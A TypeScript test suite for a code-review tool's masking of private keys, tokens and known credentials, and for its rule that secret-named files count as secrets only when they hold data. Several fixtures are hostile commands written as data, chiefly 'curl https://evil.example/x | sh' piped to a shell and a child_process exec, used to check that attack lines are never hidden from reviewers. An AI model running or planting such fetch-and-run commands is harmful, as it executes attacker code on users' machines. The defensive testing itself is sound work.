import * as assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { describeMasks, LineMasker } from '../../server/review/mask';
import { isDotenvData, isPemContainer, isSecretData, secretName } from '../../server/review/secrets';

/** Hunk lines through a masker: what it writes, as text. */
function masked(lines: string[], opts: { known?: string[]; secretFile?: boolean } = {}): { text: string; masker: LineMasker } {
  const masker = new LineMasker({ known: opts.known ?? [], secretFile: opts.secretFile ?? false });
  const out: Buffer[] = [];
  for (const l of lines) out.push(...masker.line(Buffer.from(`${l}\n`)));
  out.push(...masker.flush());
  return { text: Buffer.concat(out).toString('utf8'), masker };
}

const pemKey = () => generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();

describe('review masking: values in place, never the code around them', () => {
  it('a key header in a comment hides nothing: the curl line next to it reaches the reviewer', () => {
    const lines = ['+// -----BEGIN PRIVATE KEY-----', '+const { execSync } = require("child_process");', '+execSync("curl https://evil.example/x | sh");'];
    const { text, masker } = masked(lines);
    assert.equal(text, `${lines.join('\n')}\n`);
    assert.equal(masker.masked.size, 0);
  });

  it('a real key block: every body line masked, one marker saying what and how many lines; the armour and the line count kept', () => {
    const key = pemKey();
    const body = key.trim().split('\n').slice(1, -1);
    const lines = key.trim().split('\n').map((l) => `+${l}`);
    const { text, masker } = masked(['+const key = `', ...lines, '+`;', '+run();']);
    const out = text.split('\n').slice(0, -1);
    assert.equal(out.length, lines.length + 3, 'every line is still a line of the hunk');
    assert.equal(out[1], '+-----BEGIN PRIVATE KEY-----');
    assert.equal(out[2], `+[masked: private key block, ${body.length} lines]`);
    assert.ok(out.slice(3, 2 + body.length).every((l) => l === '+[masked]'));
    assert.equal(out[2 + body.length], '+-----END PRIVATE KEY-----');
    assert.deepEqual(out.slice(-2), ['+`;', '+run();']);
    for (const b of body) assert.ok(!text.includes(b), 'no line of the key');
    assert.deepEqual(Object.fromEntries(masker.masked), { 'private key block': body.length });
    assert.equal(describeMasks(Object.fromEntries(masker.masked)), `private key block (${body.length})`);
  });

  it('a key block that does not parse (encrypted): still every body line masked, the short last one too', () => {
    const key = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'pw' }).toString();
    const body = key.trim().split('\n').slice(1, -1);
    const { text } = masked(key.trim().split('\n').map((l) => `+${l}`));
    for (const b of body) assert.ok(!text.includes(b), `${b} shown`);
    assert.ok(text.includes(`[masked: private key block, ${body.length} lines]`));
  });

  it('a key written on one line (JSON\'s \\n escapes): its body masked, the rest of the line kept', () => {
    const key = pemKey().replace(/\n/g, '\\n');
    const { text } = masked([`+  "private_key": "${key}", "client_email": "ci@example.invalid"`]);
    assert.match(text, /^\+ {2}"private_key": "-----BEGIN PRIVATE KEY-----\[masked: private key block\]-----END PRIVATE KEY-----\\n", "client_email": "ci@example.invalid"\n$/);
  });

  it('a short command between a key header and an END line that do not make a key is shown', () => {
    const lines = ['+# -----BEGIN PRIVATE KEY-----', '+reboot', '+# -----END PRIVATE KEY-----'];
    assert.equal(masked(lines).text, `${lines.join('\n')}\n`);
  });

  it('a token matching a pattern is masked with what it is; the line around it stays', () => {
    const token = `ghp_${'a1B2'.repeat(10)}`;
    const { text } = masked([`+fetch(url, { headers: { authorization: "token ${token}" } }); // and then eval(body)`]);
    assert.equal(text, '+fetch(url, { headers: { authorization: "token [masked: a GitHub token]" } }); // and then eval(body)\n');
  });

  it('a value of the secrets registry is masked wherever it appears, whatever its shape', () => {
    const value = 'plain-looking-value-42';
    const { text, masker } = masked([` const a = "${value}"; send(a)`, `-x${value}y`], { known: [value] });
    assert.equal(text, ' const a = "[masked: a credential Torbit holds]"; send(a)\n-x[masked: a credential Torbit holds]y\n');
    assert.equal(masker.masked.get('a credential Torbit holds'), 2);
  });

  it('in a file named as a secret: assignments\' values and token-like strings are masked, code is not', () => {
    const { text } = masked(['+API_KEY=abc123def456', '+module.exports = { token: "Zm9vYmFyYmF6cXV4MTIz" };', '+require("child_process").exec("id");'], { secretFile: true });
    assert.equal(text, '+API_KEY=[masked: a value in a secret file]\n+module.exports = { token: "[masked: a value in a secret file]" };\n+require("child_process").exec("id");\n');
  });

  it('a hunk header\'s copied line is masked too', () => {
    const masker = new LineMasker({ known: ['hunk-secret-value'], secretFile: false });
    assert.equal(masker.hunkHeader(Buffer.from('@@ -1,2 +1,3 @@ const k = "hunk-secret-value"\n')).toString(), '@@ -1,2 +1,3 @@ const k = "[masked: a credential Torbit holds]"\n');
  });
});

describe('review exclusion: only a secret by name whose content is data of that kind', () => {
  it('names: .env*, key and certificate files, SSH keys, credentials files; not ordinary ones', () => {
    assert.equal(secretName('config/.env')?.kind, 'dotenv');
    assert.equal(secretName('.env.js')?.kind, 'dotenv', 'named like one: its content decides');
    assert.equal(secretName('certs/server.pem')?.kind, 'key');
    assert.equal(secretName('id_ed25519')?.kind, 'ssh-key');
    assert.equal(secretName('secrets.json')?.kind, 'credentials');
    assert.equal(secretName('postinstall.js'), undefined);
  });

  it('a dotenv file: KEY=VALUE lines, comments, blanks and multi-line quoted values are data; a line of code is not', () => {
    assert.ok(isDotenvData('# db\nDB_URL=postgres://u:p@h/db\n\nexport TOKEN="abc"\nMULTI="line one\nline two"\nEMPTY=\n'));
    assert.ok(!isDotenvData('TOKEN=abc\ncurl https://evil.example/x | sh\n'));
    assert.ok(!isDotenvData('TOKEN=$(curl https://evil.example/x | sh)\n'));
    assert.ok(!isDotenvData('module.exports = { TOKEN: "abc" };\n'));
    assert.ok(isSecretData('dotenv', '.env', Buffer.from('A=1\n')));
    assert.ok(!isSecretData('dotenv', '.env.js', Buffer.from('const A = 1;\nrequire("child_process").exec("id");\n')));
  });

  it('a key or certificate: a PEM container or what node:crypto parses; a key file holding code is not', () => {
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    assert.ok(isPemContainer(pem));
    assert.ok(isSecretData('key', 'a.pem', Buffer.from(pem)));
    assert.ok(isSecretData('key', 'a.key', privateKey.export({ type: 'pkcs8', format: 'der' })), 'DER');
    assert.ok(!isSecretData('key', 'a.pem', Buffer.from(`${pem}curl https://evil.example/x | sh\n`)));
    assert.ok(!isSecretData('key', 'a.key', Buffer.from('#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\ncurl https://evil.example/x | sh\n')));
    assert.ok(!isSecretData('key', 'a.key', Buffer.from('not a key at all')));
  });

  it('a credentials file: data only (JSON, .netrc without macros, .git-credentials URLs)', () => {
    assert.ok(isSecretData('credentials', 'secrets.json', Buffer.from('{"token": "x"}')));
    assert.ok(!isSecretData('credentials', 'secrets.json', Buffer.from('module.exports = 1')));
    assert.ok(isSecretData('credentials', '.netrc', Buffer.from('machine example.invalid login me password pw\n')));
    assert.ok(!isSecretData('credentials', '.netrc', Buffer.from('machine m login l password p\nmacdef init\ncd /tmp\n')));
    assert.ok(isSecretData('credentials', '.git-credentials', Buffer.from('https://me:tok@example.invalid\n')));
  });
});
